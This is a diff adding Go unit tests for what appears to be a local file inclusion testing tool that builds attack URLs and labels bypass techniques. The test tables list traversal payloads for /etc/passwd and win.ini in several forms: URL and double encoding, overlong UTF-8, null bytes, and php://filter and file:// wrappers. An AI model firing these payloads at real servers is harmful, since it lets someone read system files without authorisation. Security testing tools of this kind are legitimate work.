@@ -0,0 +1,71 @@
+package lfi
+
+import (
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestBuildLFIURL(t *testing.T) {
+	tests := []struct {
+		name  string
+		value string
+		want  string
+	}{
+		{
+			name:  "Plain payload is escaped",
+			value: "../../etc/passwd",
+			want:  "http://example.com/index.php?lang=en&page=..%2F..%2Fetc%2Fpasswd",
+		},
+		{
+			name:  "Double-encoded payload is sent verbatim",
+			value: "..%252f..%252fetc%252fpasswd",
+			want:  "http://example.com/index.php?lang=en&page=..%252f..%252fetc%252fpasswd",
+		},
+		{
+			name:  "Null byte is sent verbatim",
+			value: "../../etc/passwd%00.jpg",
+			want:  "http://example.com/index.php?lang=en&page=../../etc/passwd%00.jpg",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := buildLFIURL("http://example.com/index.php?page=home.php&lang=en", "page", tt.value)
+			require.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestLFIBypassTechnique(t *testing.T) {
+	tests := []struct {
+		payload string
+		want    string
+	}{
+		{"../../../etc/passwd", "none (plain path)"},
+		{"..%2f..%2f..%2fetc%2fpasswd", "URL encoding"},
+		{"..%252f..%252fetc%252fpasswd", "double URL encoding"},
+		{"%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "overlong UTF-8 encoding"},
+		{"../../etc/passwd%00", "null byte truncation"},
+		{"....//....//etc/passwd%00", "null byte truncation + nested traversal sequence (....//)"},
+		{"..\\..\\windows\\win.ini", "backslash separators"},
+		{"php://filter/convert.base64-encode/resource=index.php", "php://filter base64 wrapper"},
+		{"file:///etc/passwd", "file:// wrapper"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.payload, func(t *testing.T) {
+			assert.Equal(t, tt.want, lfiBypassTechnique(tt.payload))
+		})
+	}
+}
+
+func TestIsPotentialLFIValue(t *testing.T) {
+	assert.True(t, isPotentialLFIValue("about.php"))
+	assert.True(t, isPotentialLFIValue("includes/header.inc"))
+	assert.True(t, isPotentialLFIValue("templates/main"))
+	assert.False(t, isPotentialLFIValue("42"))
+	assert.False(t, isPotentialLFIValue("john"))
+}